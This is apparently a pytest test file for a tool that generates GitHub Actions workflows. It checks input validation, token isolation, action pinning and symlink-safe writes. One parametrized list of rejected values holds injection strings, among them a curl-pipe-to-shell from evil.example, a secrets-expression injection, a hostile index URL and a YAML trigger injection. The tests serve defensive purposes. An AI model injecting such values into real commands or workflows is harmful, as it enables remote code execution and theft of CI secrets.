"""Generated workflows take no unchecked text, the bump workflow keeps upstream code away
from the write token, and init never writes through a symlink."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
import yaml  # type: ignore[import-untyped]  # PyYAML comes with gguf; no stubs

from llamapin.workflows import BUMP_PATH, GATE_PATH

SENTINEL = b"precious bytes outside the project\n\x00\xff"


def init(run_cli: Any, root: Path, *args: str) -> Any:
    """``init``, installing a pinned llamapin unless the test names its own --install (the
    default asks the package index, which has no llamapin of this version)."""
    if "--install" not in args:
        args = (*args, "--install", "llamapin==1.2.3")
    return run_cli("--root", str(root), "init", *args)


def workflow(root: Path, rel: str) -> dict[Any, Any]:
    data: dict[Any, Any] = yaml.safe_load((root / rel).read_text())
    return data


def runs(job: dict[str, Any]) -> str:
    return "\n".join(step.get("run", "") for step in job["steps"])


@pytest.mark.parametrize(
    "install",
    [
        "llamapin==1.2.3",
        "llamapin[extra]==1.2.3rc1",
        "https://files.example.org/p/llamapin-1.2.3-py3-none-any.whl",
        "https://files.example.org/llamapin-1.2.3-py3-none-any.whl#sha256=" + "a" * 64,
        "git+https://github.com/acme/llamapin.git@" + "0123456789abcdef" * 2 + "01234567",
        ".",
        "./tools/llamapin",
        "dist/llamapin-1.2.3-py3-none-any.whl",
    ],
)
def test_install_reaches_the_workflow_only_through_env(
    tmp_path: Path, run_cli: Any, install: str
) -> None:
    res = init(run_cli, tmp_path, "--install", install, "--default-branch", "release/2.x")
    assert res.code == 0, res.err
    for rel in (GATE_PATH, BUMP_PATH):
        flow = workflow(tmp_path, rel)
        for job in flow["jobs"].values():
            assert len(install) < 3 or install not in runs(job)
            step = next(s for s in job["steps"] if s.get("name") == "Install llamapin")
            assert step["env"] == {"LLAMAPIN_INSTALL": install}
            assert step["run"] == 'python -m pip install "${LLAMAPIN_INSTALL}"'
    gate = workflow(tmp_path, GATE_PATH)
    assert gate[True]["push"]["branches"] == ["release/2.x"]  # YAML reads 'on' as True


@pytest.mark.parametrize(
    ("option", "value"),
    [
        ("--install", 'llamapin"; curl https://evil.example | sh; echo "'),
        ("--install", "${{ secrets.LLAMAPIN_BUMP_TOKEN }}"),
        ("--install", "--index-url=https://evil.example/simple"),
        ("--install", "llamapin"),  # unpinned
        ("--install", "llamapin>=1"),
        ("--install", "http://files.example.org/llamapin-1-py3-none-any.whl"),
        ("--install", "git+https://github.com/acme/llamapin.git@main"),
        ("--install", "../elsewhere/llamapin"),
        ("--install", "/abs/llamapin.whl"),
        ("--install", "llamapin==1\nrun: evil"),
        ("--default-branch", "main]\n  pull_request_target:\n    branches: [x"),
        ("--default-branch", "${{ github.event.issue.title }}"),
        ("--default-branch", "-main"),
        ("--default-branch", "a..b"),
        ("--default-branch", "main.lock"),
        ("--default-branch", "main branch"),
        ("--default-branch", ""),
    ],
)
def test_bad_init_values_are_one_line_errors_and_write_nothing(
    tmp_path: Path, run_cli: Any, option: str, value: str
) -> None:
    res = init(run_cli, tmp_path, option, value)
    assert res.code == 2
    lines = res.err.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith(f"error: bad {option} value ")
    assert not (tmp_path / ".github").exists()


def test_bump_workflow_keeps_upstream_code_away_from_the_write_token(
    tmp_path: Path, run_cli: Any
) -> None:
    assert init(run_cli, tmp_path).code == 0
    text = (tmp_path / BUMP_PATH).read_text()
    flow = workflow(tmp_path, BUMP_PATH)
    assert flow["permissions"] == {}
    prepare, publish = flow["jobs"]["prepare"], flow["jobs"]["publish"]
    # prepare runs upstream code: read-only, no secrets, no persisted credentials
    assert prepare["permissions"] == {"contents": "read"}
    assert "secrets." not in json.dumps(prepare)
    checkout = next(
        s for s in prepare["steps"] if s.get("uses", "").startswith("actions/checkout@")
    )
    assert checkout["with"]["persist-credentials"] is False and "token" not in checkout["with"]
    assert "llamapin bump --prepare" in runs(prepare)
    upload = next(s for s in prepare["steps"] if "upload-artifact@" in s.get("uses", ""))
    assert upload["uses"] == "actions/upload-artifact@ea165f8d65b6e75b540449e92b4886f43607fa02"
    # publish holds the token and runs nothing from upstream: no check, ensure or gate
    assert publish["needs"] == "prepare"
    assert set(publish["permissions"]) == {"contents", "pull-requests", "statuses"}
    script = runs(publish)
    commands = [x.strip() for x in script.splitlines() if "llamapin " in x]
    assert commands == ['llamapin bump --publish "${RUNNER_TEMP}/llamapin-bump" "${args[@]}"']
    assert "args+=(--status)" in script  # the default-token fallback is kept
    assert not any("cache@" in s.get("uses", "") for s in publish["steps"])
    download = next(s for s in publish["steps"] if "download-artifact@" in s.get("uses", ""))
    assert download["uses"] == "actions/download-artifact@d3f86a106a0bac45b974a628896c90dbdf5c8093"
    assert download["with"]["path"] == "${{ runner.temp }}/llamapin-bump"  # not the checkout
    for line in text.splitlines():
        if line.strip().removeprefix("- ").startswith("uses:"):
            assert len(line.split("@")[1].split()[0]) == 40  # every action pinned by sha
    code = [x for x in text.splitlines() if not x.lstrip().startswith("#")]
    assert not [x for x in code if "merge" in x or "approve" in x]


def test_workflows_are_clean_under_zizmor_auditor(tmp_path: Path, run_cli: Any) -> None:
    assert init(run_cli, tmp_path, "--install", "llamapin==1.2.3").code == 0
    paths = [str(tmp_path / GATE_PATH), str(tmp_path / BUMP_PATH)]
    zizmor = str(Path(sys.executable).parent / "zizmor")
    found = subprocess.run(
        [zizmor, "--offline", "--persona", "auditor", *paths],
        capture_output=True,
        text=True,
        check=False,
    )
    assert found.returncode == 0, found.stdout + found.stderr
    assert "No findings to report" in found.stdout + found.stderr
    # the one ignored finding is justified right where it is ignored
    bump = (tmp_path / BUMP_PATH).read_text()
    assert bump.count("zizmor: ignore") == 1
    lines = bump.splitlines()
    at = next(i for i, x in enumerate(lines) if "zizmor: ignore[artipacked]" in x)
    why = " ".join(x.strip("# ") for x in lines[at - 2 : at])
    assert "uploads nothing and runs no upstream code" in why


def test_init_force_replaces_a_symlink_and_never_writes_its_target(
    tmp_path: Path, run_cli: Any
) -> None:
    root, outside = tmp_path / "app", tmp_path / "outside"
    (root / ".github/workflows").mkdir(parents=True)
    outside.mkdir()
    target = outside / "victim.yml"
    target.write_bytes(SENTINEL)
    link = root / GATE_PATH
    link.symlink_to(target)
    res = init(run_cli, root)
    assert res.code == 2 and "refusing to overwrite .github/workflows/llamapin-gate.yml" in res.err
    assert target.read_bytes() == SENTINEL and link.is_symlink()
    assert not (root / BUMP_PATH).exists()  # nothing written when one file is refused
    # a symlink to a copy of exactly what init writes is still not taken as ours
    res = init(run_cli, root, "--force")
    assert res.code == 0, res.err
    assert "replaced: .github/workflows/llamapin-gate.yml" in res.out
    assert not link.is_symlink() and link.read_text().startswith("# Written by `llamapin init`")
    assert target.read_bytes() == SENTINEL
    assert sorted(p.name for p in outside.iterdir()) == ["victim.yml"]
    twin = outside / "twin.yml"
    twin.write_bytes(link.read_bytes())
    link.unlink()
    link.symlink_to(twin)
    assert "refusing to overwrite" in init(run_cli, root).err


def test_init_refuses_a_symlinked_workflow_directory_even_with_force(
    tmp_path: Path, run_cli: Any
) -> None:
    root, outside = tmp_path / "app", tmp_path / "outside"
    root.mkdir()
    (outside / "workflows").mkdir(parents=True)
    (outside / "workflows/llamapin-gate.yml").write_bytes(SENTINEL)
    (root / ".github").symlink_to(outside)
    res = init(run_cli, root, "--force")
    assert res.code == 2
    lines = res.err.strip().splitlines()
    assert len(lines) == 1
    assert lines[0].startswith("error: refusing to write .github/workflows/llamapin-gate.yml: ")
    assert ".github is a symlink" in lines[0]
    assert (outside / "workflows/llamapin-gate.yml").read_bytes() == SENTINEL
    assert sorted(p.name for p in (outside / "workflows").iterdir()) == ["llamapin-gate.yml"]


def test_init_handles_odd_files_where_a_workflow_belongs(tmp_path: Path, run_cli: Any) -> None:
    flows = tmp_path / ".github/workflows"
    flows.mkdir(parents=True)
    (tmp_path / GATE_PATH).mkdir()
    res = init(run_cli, tmp_path, "--force")
    assert res.code == 2
    assert "llamapin-gate.yml is neither a file" in res.err and len(res.err.splitlines()) == 1
    (tmp_path / GATE_PATH).rmdir()
    (tmp_path / ".github").rename(tmp_path / "moved")
    (tmp_path / ".github").write_text("a file where a directory belongs\n")
    res = init(run_cli, tmp_path, "--force")
    assert res.code == 2 and ".github is neither a directory" in res.err
    (tmp_path / ".github").unlink()
    (tmp_path / "moved").rename(tmp_path / ".github")
    # bytes that are not UTF-8 count as an edit: refused without --force, no traceback
    (tmp_path / GATE_PATH).write_bytes(b"\xff\xfe not utf-8\n")
    res = init(run_cli, tmp_path)
    assert res.code == 2 and "refusing to overwrite" in res.err
    # names a temporary file might take are left alone
    decoys = {
        name: f"decoy {name}\n".encode()
        for name in (
            ".llamapin-gate.yml.tmp",
            "llamapin-gate.yml.tmp",
            ".llamapin-bump.yml.tmp",
            "llamapin-bump.yml.tmp",
        )
    }
    for name, data in decoys.items():
        (flows / name).write_bytes(data)
    res = init(run_cli, tmp_path, "--force")
    assert res.code == 0, res.err
    for name, data in decoys.items():
        assert (flows / name).read_bytes() == data
    leftovers = set(os.listdir(flows)) - set(decoys) - {"llamapin-gate.yml", "llamapin-bump.yml"}
    assert leftovers == set()
    assert oct((tmp_path / GATE_PATH).stat().st_mode & 0o777) == "0o644"


def test_a_write_that_fails_leaves_the_old_file_and_no_temporary(tmp_path: Path) -> None:
    from llamapin.workflows import _replace

    target = tmp_path / "llamapin-gate.yml"
    target.write_text("old\n")
    with pytest.raises(UnicodeEncodeError):
        _replace(target, "name: x\n\ud800\n")  # a real failure half-way through the write
    assert target.read_text() == "old\n"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["llamapin-gate.yml"]
